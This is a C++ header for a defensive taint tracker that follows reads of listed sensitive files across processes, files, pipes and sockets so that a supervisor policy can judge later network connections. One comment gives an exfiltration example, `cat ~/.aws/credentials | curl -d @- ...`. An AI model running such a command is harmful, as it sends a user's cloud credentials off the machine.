// What a process read, for `read(@list)` in rules (policy/expr.h): the
// process, or the part of the session it got data from, read a file of a
// taint list before this event.  Data reaches a process from its ancestors
// (what they had read when they forked it, or read since: counted alike)
// and from what it reads: a file a tainted process wrote, or held open for
// writing, taints the next reader; a pipe or socket it held open for
// writing taints every process that holds it when that process is judged
// (`cat ~/.aws/credentials | curl -d @- ...`).
//
// Fed with every row the session records, in the order the calls
// happened, and with each read-open and write-open the supervisor allows
// while the caller still waits (the plan notifies them when a rule tests
// read(@list)): a read that finished before a connect is known when the
// connect is decided, and what the reader held open for writing is known
// before it can exit.  Records the tracer lost make every process count
// as tainted (fail closed: a rule asks, rather than allows).
#pragma once

#include <cstdint>
#include <string>
#include <unordered_map>
#include <vector>

#include "policy/policy.h"
#include "procs/procs.h"
#include "record/record.h"

namespace cb {

class TaintTracker {
 public:
  TaintTracker(const Policy* policy, const ProcessTable& procs);
  bool active() const { return active_; }

  // A recorded row: reads taint their process, writes by a tainted
  // process taint their file.
  void on_row(const EventRow& row);
  // Sets ev.read_taint and ev.taint_reads for an event of process `proc_id`.
  void fill(Event& ev, uint64_t proc_id) const;
  // Some of the session's calls were not seen (the tracer's ring overflowed).
  void lost() { lost_ = active_; }

 private:
  struct Taint {
    uint64_t bits = 0;
    std::vector<TaintRead> reads;  // the first few, for prompts
    void add(uint64_t b, const std::vector<TaintRead>& r);
  };
  Taint of(uint64_t proc_id) const;
  // What `pid` holds open for writing becomes tainted like it.
  void mark_outputs(int32_t pid, const Taint& t);

  const Policy* policy_;
  const ProcessTable& procs_;
  bool active_ = false;
  bool lost_ = false;
  std::unordered_map<uint64_t, Taint> by_proc_;
  std::unordered_map<std::string, Taint> by_file_;
  std::unordered_map<std::string, Taint> by_channel_;  // "pipe:[N]", "socket:[N]" as /proc/PID/fd names them
};

}  // namespace cb
